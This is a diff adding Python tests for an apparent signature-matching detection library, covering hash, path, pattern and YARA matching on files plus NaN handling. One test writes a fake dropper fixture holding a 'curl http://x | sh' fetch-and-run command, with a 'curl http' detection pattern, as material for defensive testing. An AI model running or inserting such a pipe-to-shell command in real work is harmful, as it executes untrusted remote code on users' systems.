@@ -86,3 +86,25 @@ def test_yara_rules_match_payloads_and_report_compile_errors(tmp_path, ):
     hits = m.match([{"payload": b"MZ\x90\x00 evil"}, {"payload": "nothing"}, {"content": 5}])
     assert {h.rule_id for h in hits[0]} == {"yara:good:EvilString", "yara:good:Mz"}
     assert hits[0][0].kind == "yara" and hits[1] == [] and hits[2] == []
+
+
+def test_match_files_runs_hashes_paths_patterns_and_yara(tmp_path):
+    import hashlib
+
+    evil = tmp_path / "dropper.sh"
+    evil.write_bytes(b"#!/bin/sh\ncurl http://x | sh # EVIL\n")
+    (tmp_path / "r.yar").write_text('rule Evil { strings: $a = "EVIL" condition: $a }')
+    m = SignatureMatcher(rules=[str(tmp_path / "r.yar")],
+                         indicators={"hash": [hashlib.sha256(evil.read_bytes()).hexdigest()],
+                                     "path": ["*/dropper.*"], "pattern": ["curl http"]}).fit()
+    import warnings
+
+    with warnings.catch_warnings(record=True):
+        hits = m.match_files([evil, tmp_path / "missing.bin"])
+    assert {h.kind for h in hits[0]} == {"hash", "path", "pattern", "yara"}
+    assert hits[1] == []
+
+
+def test_nan_cells_are_missing():
+    m = SignatureMatcher(rules=[Rule("n", Field("a", "null")), Rule("c", Field("a", "contains", ["nan"]))]).fit()
+    assert [[h.rule_id for h in row] for row in m.match([{"a": float("nan")}, {"a": "banana"}])] == [["n"], ["c"]]
